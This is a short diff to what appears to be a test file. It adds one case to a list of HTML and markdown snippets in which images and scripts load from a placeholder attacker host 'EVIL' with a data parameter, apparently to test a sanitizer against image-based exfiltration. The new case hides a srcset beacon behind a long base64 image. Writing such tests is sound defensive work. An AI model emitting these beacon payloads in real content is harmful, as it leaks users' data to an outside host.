@@ -155,6 +155,7 @@ SHOWN = [
     "<script type=module>\nnew Image().src = name\nx = 1\n</script> after",
     f"```\ncode\n```\n![x]({EVIL}/p.png?d=1)\n```\nmore\n```\n",
     f"Hello![x]({EVIL}/{'a' * 3_000}?d=1) now",
+    f"<img src='data:image/png;base64,{'iVBORw0K' * 450}' srcset='{EVIL}/p?d=1' alt=\"x\"> z",
 ]
 
 
